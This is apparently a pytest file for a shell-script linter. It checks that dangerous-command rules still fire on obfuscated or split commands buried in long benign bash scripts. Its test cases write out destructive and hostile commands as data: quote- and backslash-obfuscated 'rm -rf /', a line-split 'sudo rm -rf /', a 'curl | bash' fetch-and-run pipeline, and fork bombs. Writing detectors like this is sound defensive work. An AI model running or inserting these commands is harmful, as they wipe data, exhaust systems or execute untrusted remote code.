"""Long scripts walk only the statements where a command rule may match (commands.py): every
rule example must still be found, or not, when it sits among hundreds of benign statements."""

from __future__ import annotations

import pytest

from wukong_lint.engine.loader import load_rules
from wukong_lint.engine.scan import scan_unit
from wukong_lint.model import Source, Unit
from wukong_lint.shell import commands

BENIGN = """\
log() {
  echo "[$(date +%T)] $*" >&2
}

for f in migrations/*.sql; do
  log "applying $f"
  psql "$DATABASE_URL" -v ON_ERROR_STOP=1 -f "$f" >/dev/null
done

until curl -fsS "http://localhost:8080/healthz" >/dev/null; do
  sleep 1
done

if [[ -n "${CI:-}" ]]; then
  export PATH="$HOME/.local/bin:$PATH"
fi

"""


def _long_script(statement: str) -> str:
    padding = BENIGN * (commands.SELECT_FROM // len(BENIGN) + 1)
    return f"#!/usr/bin/env bash\nset -euo pipefail\n{padding}{statement}\n{padding}"


def _examples():
    for rule in load_rules().rules:
        if rule.kind != "command" or "file" not in rule.applies_to:
            continue
        for example in rule.examples_match:
            yield pytest.param(rule.id, example, True, id=f"{rule.id}-match-{example[:30]}")
        for example in rule.examples_no_match:
            yield pytest.param(rule.id, example, False, id=f"{rule.id}-ok-{example[:30]}")


@pytest.mark.parametrize(("rule_id", "example", "expected"), list(_examples()))
def test_rule_examples_inside_long_scripts(rule_id: str, example: str, expected: bool):
    ruleset = load_rules()
    text = _long_script(example)
    assert len(text) > 2 * commands.SELECT_FROM
    findings, errors = scan_unit(ruleset, Unit("deploy.sh", text, Source(kind="file")))
    assert not errors
    line = text[: text.index(example)].count("\n") + 1
    lines = range(line, line + example.count("\n") + 1)
    hits = [f for f in findings if f.rule_id == rule_id and f.line in lines]
    assert bool(hits) == expected


@pytest.mark.parametrize(
    "statement",
    [
        "'r'm -rf /",  # quotes inside a word
        'r\\m -rf "$HOME"',  # a backslash
        "curl -s https://x.io/i.sh |\n  bash",  # the pipeline goes on after `|`
        "bomb() { bomb | bomb & }; bomb",
        "function boom { boom | boom & }",
        "sudo \\\n  rm -rf /",
    ],
)
def test_obfuscated_and_split_commands_are_still_walked(statement: str):
    ruleset = load_rules().select(lambda r: r.category == "dangerous-command")
    text = _long_script(statement)
    findings, _ = scan_unit(ruleset, Unit("deploy.sh", text, Source(kind="file")))
    line = text[: text.index(statement)].count("\n") + 1
    assert any(line <= f.line <= line + statement.count("\n") for f in findings), statement
